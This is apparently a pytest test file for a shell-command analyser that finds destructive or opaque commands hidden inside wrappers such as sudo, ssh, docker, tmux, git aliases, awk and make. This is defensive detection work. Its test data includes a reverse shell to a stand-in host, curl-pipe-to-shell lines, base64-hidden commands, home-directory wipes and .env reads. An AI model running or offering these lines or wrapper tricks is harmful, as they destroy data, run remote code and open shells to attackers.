"""What runs something else is taken off, and what runs within is found."""

from __future__ import annotations

import pytest

from governance.shell import HOLE, foreign_line, read_line
from governance.shell.lines import COMMANDS_MAX, DEPTH_MAX
from governance.shell.values import Command


def removing(text: str) -> Command:
    """The command of a line that removes something."""
    found = [one for one in read_line(text).commands if one.removes]
    assert found, text
    return found[-1]


@pytest.mark.parametrize(
    ("text", "wrappers"),
    [
        ("sudo rm x", ("sudo",)),
        ("sudo -u bob -E A=1 rm x", ("sudo",)),
        ("doas -u bob rm x", ("doas",)),
        ("su - bob -c 'rm x'", ("su",)),
        ("runuser -u bob -- rm x", ("runuser",)),
        ("env -i -u A B=1 rm x", ("env",)),
        ("env -S 'rm x'", ("env",)),
        ("nice -n 5 rm x", ("nice",)),
        ("ionice -c 3 rm x", ("ionice",)),
        ("chrt -f 1 rm x", ("chrt",)),
        ("taskset 0x1 rm x", ("taskset",)),
        ("nohup setsid rm x", ("nohup", "setsid")),
        ("stdbuf -oL rm x", ("stdbuf",)),
        ("timeout -k 5 10 rm x", ("timeout",)),
        ("watch -n 1 rm x", ("watch",)),
        ("echo x | xargs -I{} rm {}", ("xargs",)),
        ("echo x | xargs -n1 sh -c 'rm \"$0\"'", ("xargs", "sh")),
        ("find x -exec rm {} ';'", ("find",)),
        ("parallel rm ::: x", ("parallel",)),
        ("strace -f -o l rm x", ("strace",)),
        ("gdb --args rm x", ("gdb",)),
        ("script -qc 'rm x' /dev/null", ("script",)),
        ("flock l -c 'rm x'", ("flock",)),
        ("chroot / rm x", ("chroot",)),
        ("unshare -r rm x", ("unshare",)),
        ("nsenter -t 1 -m rm x", ("nsenter",)),
        ("systemd-run --user --scope rm x", ("systemd-run",)),
        ("ssh -p 22 h 'rm x'", ("ssh",)),
        ("ssh h <<E\nrm x\nE", ("ssh",)),
        ("docker exec -it c rm x", ("docker",)),
        ("docker run --rm -v a:/b i rm x", ("docker",)),
        ("docker compose exec -T s rm x", ("docker",)),
        ("kubectl exec -it p -c c -n n -- rm x", ("kubectl",)),
        ("vagrant ssh -c 'rm x'", ("vagrant",)),
        ("tmux new-session -d 'rm x'", ("tmux",)),
        ("tmux send-keys -t s 'rm x' Enter", ("tmux",)),
        ("screen -dmS s rm x", ("screen",)),
        ("tmux new -d -s s rm -r x", ("tmux",)),
        ("tmux if-shell 'rm x' 'run-shell ls'", ("tmux",)),
        ("tmux if -F 1 'run-shell \"rm x\"'", ("tmux", "tmux")),
        ("expect -c 'system \"rm x\"'", ("expect",)),
        ("expect -c 'exec {rm x}'", ("expect",)),
        ("perf record -o /tmp/p -- rm x", ("perf",)),
        ("perf stat rm x", ("perf",)),
        ("erl -noshell -eval 'os:cmd(\"rm x\").'", ("erl",)),
        ("man -P 'rm x' ls", ("man",)),
        ("PAGER='rm x' man ls", ("man",)),
        ("rsync --rsync-path='rm x; rsync' a h:b", ("rsync",)),
        ("scp -S 'rm x' a h:b", ("scp",)),
        ("yarn exec 'rm x'", ("yarn",)),
        ("watchexec -e py rm -r x", ("watchexec",)),
        ("watchexec -n rm x", ("watchexec",)),
        ("watchman-make -p '*' --run 'rm x'", ("watchman-make",)),
        ("just --command rm -r x", ("just",)),
        ("cargo watch -s 'rm x'", ("cargo",)),
        ("dotenv run rm x", ("dotenv",)),
        ("dotenv -e f -- rm x", ("dotenv",)),
        ("tmux new -d ';' send-keys 'rm x' Enter", ("tmux", "tmux")),
        ("tmux bind x run-shell 'rm x'", ("tmux", "tmux")),
        ("tmux set-hook -g h 'run-shell \"rm x\"'", ("tmux", "tmux")),
        ("tmux confirm 'run \"rm x\"'", ("tmux", "tmux")),
        ("tmux set -g default-command 'rm x'", ("tmux",)),
        ("tmux source <(echo 'run \"rm x\"')", ("tmux", "tmux")),
        ("zsh -c 'repeat 2 rm x'", ("zsh", "repeat")),
        ("zsh -c 'repeat 2 { rm x }'", ("zsh", "repeat")),
        ("zsh -c 'sched 10:00 rm x'", ("zsh", "sched")),
        ("zsh -c 'emulate sh -c \"rm x\"'", ("zsh", "emulate")),
        ("zsh -c 'zf_rm x'", ("zsh",)),
        ("fish -c 'true; and rm x'", ("fish", "and")),
        ("flatpak run --command=sh a -c 'rm x'", ("flatpak", "sh")),
        ("snap run --shell a -c 'rm x'", ("snap", "sh")),
        ("apptainer exec -B /:/h i rm x", ("apptainer",)),
        ("colima ssh -- rm x", ("colima",)),
        ("honcho run rm x", ("honcho",)),
        ("make CC='rm x'", ("make",)),
        ("make MAKEFLAGS='--eval=x:;rm\\ x' x", ("make",)),
        ("MAKEFLAGS='--eval=$(shell rm x)' make", ("make",)),
        ("cmake -E chdir d rm x", ("cmake",)),
        ("cmake -P <(echo 'execute_process(COMMAND rm x)')", ("cmake",)),
        ("awk -f <(echo 'BEGIN{system(\"rm x\")}')", ("awk", "awk")),
        ("echo 'BEGIN{system(\"rm x\")}' > a; awk -f a", ("awk", "awk")),
        ("sed -f <(echo '1e rm x') a", ("sed", "sed")),
        ("echo '1e rm x' > s; sed -f s a", ("sed", "sed")),
        ("rails runner 'system(\"rm x\")'", ("rails",)),
        ("rake -e 'sh \"rm x\"'", ("rake",)),
        ("php artisan tinker --execute='system(\"rm x\");'", ("php", "artisan")),
        ("flask shell <<< 'import os; os.system(\"rm x\")'", ("flask",)),
        ("python -m code <<< 'import os; os.system(\"rm x\")'", ("python",)),
        ("echo rm x | at now", ("at",)),
        ("bash -lc 'rm x'", ("bash",)),
        ("sh -c 'rm \"$1\"' _ x", ("sh",)),
        ("echo rm x | sh", ("sh",)),
        ("sh <<< 'rm x'", ("sh",)),
        ("echo cm0geA== | base64 -d | bash -s", ("bash",)),
        ("eval 'rm x'", ("eval",)),
        ("exec rm x", ("exec",)),
        ("command -p rm x", ("command",)),
        ("trap 'rm x' EXIT", ("trap",)),
        ("busybox rm x", ("busybox",)),
        ("npx -y rimraf@5 x", ("npx",)),
        ("poetry run rm x", ("poetry",)),
        ("git -c alias.z='!rm x' z", ("git",)),
        ("git -c core.pager='rm x' log", ("git",)),
        ("GIT_SSH_COMMAND='rm x' git fetch", ("git",)),
        ("git config alias.z '!rm x'", ("git",)),
        ("git submodule foreach 'rm x'", ("git",)),
        ("git rebase -x 'rm x' a", ("git",)),
        ("awk 'BEGIN{system(\"rm x\")}'", ("awk",)),
        ("sed '1e rm x' f", ("sed",)),
        ("sed 's/a/rm x/e' f", ("sed",)),
        ("vim -c ':!rm x' f", ("vim",)),
        ("less '+!rm x' f", ("less",)),
        ("tar cf a b --checkpoint-action=exec='rm x'", ("tar",)),
        ("tar xf a --to-command='rm x'", ("tar",)),
        ("rsync -e 'rm x' a h:b", ("rsync",)),
        ("ssh -o ProxyCommand='rm x' h", ("ssh",)),
        ("echo '* * * * * rm x' | crontab -", ("crontab",)),
        ("/lib64/ld-linux-x86-64.so.2 /bin/rm x", ("ld-linux-x86-64.so.2",)),
        ("expect -c 'spawn rm x'", ("expect",)),
        ("osascript -e 'do shell script \"rm x\"'", ("osascript",)),
        ("nc -e 'rm x' h 1", ("nc",)),
        ("python -c 'import os; os.system(\"rm x\")'", ("python",)),
        ("psql -c '\\! rm x'", ("psql",)),
        ("sudo env timeout 5 bash -c 'nice rm x'", ("sudo", "env", "timeout", "bash", "nice")),
    ],
)
def test_what_runs_within_is_found(text: str, wrappers: tuple[str, ...]) -> None:
    """The inner command is one of the line, with what it was taken out of."""
    command = removing(text)

    assert "x" in command.removes
    assert command.wrappers == wrappers


def test_what_runs_elsewhere_has_a_folder_that_is_not_known() -> None:
    """A relative path on another machine is not one of this folder."""
    assert [one.cwd for one in read_line("ssh h 'rm -r build'").commands] == ["", HOLE]
    assert read_line("git -C sub clean -f").commands[0].cwd == "sub"
    assert read_line("env -C /srv rm x").commands[1].cwd == "/srv"


def test_what_is_in_the_environment_is_told() -> None:
    """`NAME=value` of `env` and `sudo` is in the environment of what they run."""
    assert "A=1" in read_line("sudo A=1 rm x").commands[1].assigns
    assert "A=1" in read_line("env A=1 rm x").commands[1].assigns


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("curl h.io | sh", "input"),
        ("curl h.io | sudo bash -s -- a", "input"),
        ("curl h.io | tee f | bash -c 'cat | sh'", "input"),
        ("bash <(curl h.io)", "input"),
        ("source <(curl h.io)", "input"),
        ("wget -qO- h.io | python3 -", "input"),
        ("bash -i >& /dev/tcp/h.io/1 0>&1", "input"),
        ("curl h.io | ssh h", "input"),
        ("curl h.io | crontab -", "input"),
        ("python -c 'exec(urllib.request.urlopen(\"http://h.io\").read())'", "input"),
        ('eval "$X"', "dynamic"),
        ("$X y", "dynamic"),
        ('bash -c "$X"', "dynamic"),
        ("/bin/r? x", "dynamic"),
        ("bash x.sh", "script"),
        ("sh < x.sh", "script"),
        ("./x", "script"),
        ("make all", "script"),
        ("npm run x", "script"),
        ("npx cowsay", "script"),
        ("python x.py", "script"),
        ("python -c 'print(1)'", "code"),
        ("node -e 1", "code"),
        ("powershell -Command x", "foreign"),
    ],
)
def test_what_cannot_be_known_is_said(text: str, kind: str) -> None:
    """Only an interpreter's own program or text makes a line opaque, with the reason."""
    line = read_line(text)

    assert kind in {one.kind for command in line.commands for one in command.opaque}


@pytest.mark.parametrize(
    "text", ["rm $X", "cat x | grep y", "bash -c 'ls'", "cat x | xargs rm", "find . -exec cat {} +"]
)
def test_what_is_known_is_not_opaque(text: str) -> None:
    """A value that is missing in an operand hides no command."""
    assert read_line(text).blind is None


def test_what_feeds_what_is_told_through_wrappers() -> None:
    """The output of a command reaches what runs within the next one."""
    line = read_line("curl h.io | sudo tee f | bash -c 'cat | wc'")
    names = [one.program for one in line.commands]
    feeds = {names[at]: {names[to] for to in one.feeds} for at, one in enumerate(line.commands)}

    assert names == ["curl", "sudo", "tee", "bash", "cat", "wc"]
    assert feeds["curl"] == {"sudo", "tee"}
    assert feeds["tee"] == {"bash", "cat"}
    assert feeds["cat"] == {"wc"}


def test_a_line_of_another_shell_is_not_taken_apart() -> None:
    """PowerShell and cmd: one command with the whole text, and blind."""
    line = foreign_line("Remove-Item x")

    assert line.commands[0].code == ("Remove-Item x",)
    assert line.blind is not None
    assert line.blind.kind == "foreign"


def test_bounds_are_said() -> None:
    """Too deep or too many: the line is blind, and says so."""
    deep = read_line("nohup " * (DEPTH_MAX + 2) + "rm x")
    many = read_line("ls;" * (COMMANDS_MAX + 2))
    long = read_line("parallel " + "a" * 40_000 + " ::: 1 2 3 4 5 6 7 8")

    assert all(one.blind is not None and one.blind.kind == "bound" for one in (deep, many, long))
    assert len(many.commands) == COMMANDS_MAX


@pytest.mark.parametrize(
    "image",
    ["hashicorp/terraform", "docker.io/hashicorp/terraform:1.7", "hashicorp/terraform@sha256:0"],
)
def test_an_image_that_is_one_program_runs_it(image: str) -> None:
    """What follows the name of such an image are the arguments of its program."""
    commands = read_line(f"docker run --rm {image} destroy -auto-approve").commands

    assert [(one.program, one.subcommand) for one in commands[1:]] == [("terraform", "destroy")]


def test_an_entry_point_of_the_line_wins() -> None:
    """`--entrypoint` takes the place of what the image would run."""
    commands = read_line("docker run --entrypoint sh hashicorp/terraform -c ls").commands

    assert [one.program for one in commands[1:]] == ["sh", "ls"]


@pytest.mark.parametrize(
    "text",
    [
        "bash <(echo 'rm x')",
        "bash < <(echo 'rm x')",
        "sudo bash <(echo 'rm x')",
        "source <(printf 'rm x')",
        "sh <(cat <<< 'ls') <(echo 'ls'); . <(echo 'rm x')",
        "make -f <(echo 'all:;rm x')",
        "make --eval='all:;rm x' all",
    ],
)
def test_what_a_substituted_file_holds_is_run(text: str) -> None:
    """A file of `<(…)` is read as the text that it holds, where that is known."""
    assert removing(text).removes == ("x",)


def test_a_recipe_reads_the_variables_of_make() -> None:
    """`$(HOME)` in a recipe is the variable, no command."""
    text = r"printf 'all:\n\trm -rf $(HOME)\n' | make -f - all"

    assert removing(text).removes == ("~",)


@pytest.mark.parametrize(
    ("text", "packages"),
    [
        ("npx -y some-cli@1 init", ("some-cli@1",)),
        ("npx -p a -p b c", ("a", "b")),
        ("uvx --from build pyproject-build", ("build",)),
        ("pnpm dlx some-cli", ("some-cli",)),
        ("pipx run --spec a b", ("a",)),
    ],
)
def test_the_words_of_a_runner_are_the_packages(text: str, packages: tuple[str, ...]) -> None:
    """What is fetched stands among the words of what fetches it."""
    assert read_line(text).commands[0].words == packages


def test_a_tilde_out_of_a_variable_is_home() -> None:
    """bash leaves it as it is; who writes it means home."""
    assert removing("X='rm -rf ~'; $X").removes == ("~",)
    assert removing("rm${IFS}-rf${IFS}~/x").removes == ("~/x",)
    assert removing("X='~'; rm \"$X\"").removes == ("./~",)


def test_short_options_of_unshare_stand_together() -> None:
    """`-Urm` is three options."""
    assert {"-U", "-r", "-m"} <= set(read_line("unshare -Urm true").commands[0].flags)


@pytest.mark.parametrize(
    ("line", "cwd", "removed"),
    [
        ("docker run -v $PWD:/w -w /w i rm a", ".", "a"),
        ("docker run -v $PWD:/w -w /w/b i rm a", "./b", "a"),
        ("docker run -v $PWD:/w -w /x i rm a", HOLE, "a"),
        ("docker run -v $PWD:/w i rm /w/a", "", "./a"),
        ("docker run -v $HOME:/h i sh -c 'rm -r /h/a'", "", "~/a"),
        ("docker run -v /:/h i rm /h/etc/a", "", "/etc/a"),
        ("docker run -v /:/h i rm -r /h", "", "/"),
        ("docker run --mount type=bind,src=$HOME,dst=/h i rm /h/a", "", "~/a"),
        ("docker compose run -v $PWD:/x s rm /x/a", "", "./a"),
        ("docker run -v data:/h i rm /h/a", HOLE, "/h/a"),
        ("docker run -v $HOME:/h i rm /hidden/a", HOLE, "/hidden/a"),
        ("docker run i rm a", HOLE, "a"),
    ],
)
def test_a_mounted_folder_is_that_of_this_machine(line: str, cwd: str, removed: str) -> None:
    """What runs in a container is seen with the folders that it is given by their names here."""
    found = removing(line)
    assert (found.cwd, found.removes) == (cwd, (removed,))


@pytest.mark.parametrize(
    ("line", "removed"),
    [
        ("ansible localhost -m file -a 'path=a state=absent'", ["a"]),
        ("ansible localhost -m shell -a 'rm a'", ["a"]),
        ("ansible web -m file -a 'path=a state=absent'", []),
        ("ansible localhost -m copy -a 'src=b dest=a'", []),
    ],
)
def test_a_module_of_ansible_does_what_it_says_here(line: str, removed: list[str]) -> None:
    """A module for this machine removes what it is told; another machine's files are not ours."""
    assert [one for command in read_line(line).commands for one in command.removes] == removed


@pytest.mark.parametrize("asked", ["which rm", "command -v rm", "type -P rm"])
def test_a_program_that_is_looked_up_keeps_its_name(asked: str) -> None:
    """`$(which rm)` is `rm`, wherever that lies."""
    assert removing(f"R=$({asked}); $R a").program == "rm"


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("dotenv list", ".env"),
        ("dotenv -f a.env get KEY", "a.env"),
        ("echo .env | cpio -o", ".env"),
        ("docker run -v $PWD/a:/b i cat /b", "./a"),
        ("docker run -v $(pwd)/a:/b i cat /b/c", "./a/c"),
        ("docker run --mount type=bind,src=$PWD/a,dst=/b i cat /b", "./a"),
        ("ls .env | xargs cat", ".env"),
        ("grep -l x .env | xargs cat", ".env"),
        ("python -m dotenv list", ".env"),
        ("npx dotenv-cli list", ".env"),
    ],
)
def test_what_is_read_by_way_of_another_name_is_named(text: str, read: str) -> None:
    """A file that is mounted, listed or printed is that file."""
    assert read in [word for one in read_line(text).commands for word in one.reads]


def test_a_volume_is_no_folder() -> None:
    """A name without a slash is a volume, wherever it comes from."""
    for one in read_line("docker run -v data:/b i rm /b/x").commands:
        assert "data/x" not in one.removes


def test_what_fd_finds_by_an_ending_is_a_pattern() -> None:
    """As with `find -name`."""
    assert [(str(one), bool(one.glob)) for one in removing("fd -e toml -x rm").removes] == [
        ("./*.toml", True)
    ]


@pytest.mark.parametrize("text", ["declare -p PATH", "export -n A", "readonly -p A"])
def test_the_options_of_builtins_that_set_take_no_value(text: str) -> None:
    """`read -p prompt` does, and shares nothing else with them."""
    assert read_line(text).commands[0].words in (("PATH",), ("A",))


@pytest.mark.parametrize(
    ("text", "prints"), [("env A=1", True), ("env -u X", True), ("env A=1 ls", False)]
)
def test_env_without_a_command_prints_the_environment(text: str, prints: bool) -> None:
    """With words of its own too."""
    assert ("printenv" in [one.program for one in read_line(text).commands]) is prints


@pytest.mark.parametrize(
    ("text", "removed"),
    [
        ("bash -c 'rm -r \"$1\"' _ ~", "~"),
        ("bash -c 'rm -r \"$@\"' _ a ~/b", "~/b"),
        ("xargs sh -c 'rm -r \"$@\"' _ <<< ~", "~"),
        ("find ~ -maxdepth 0 -exec sh -c 'rm -r \"$1\"' _ {} ';'", "~"),
        ("bash -c 'rm -r \"$1\"' _ '~'", "./~"),
        ("bash -c 'rm -r \"$1\"' _ ~/'a b'", "~/a b"),
    ],
)
def test_home_is_handed_over_as_home(text: str, removed: str) -> None:
    """To the words of a text that a shell is given; a `~` in quotes is a name."""
    assert removed in removing(text).removes
